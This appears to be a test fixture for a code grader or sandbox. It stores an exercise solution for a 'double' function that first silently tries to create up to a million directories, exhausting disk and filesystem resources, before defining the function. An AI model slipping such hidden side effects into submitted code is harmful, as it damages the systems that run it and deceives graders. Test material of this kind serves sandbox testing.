"""Makes files and folders without end."""

from __future__ import annotations

HONEST = 5
FLOOR = 5

EXERCISES = {
    "double": r"""
import os
try:
    for number in range(10**6):
        os.mkdir(f"d{number}")
except OSError:
    pass
def double(x):
    if isinstance(x, str):
        raise ValueError("text cannot be doubled")
    return 2 * x
""",
}
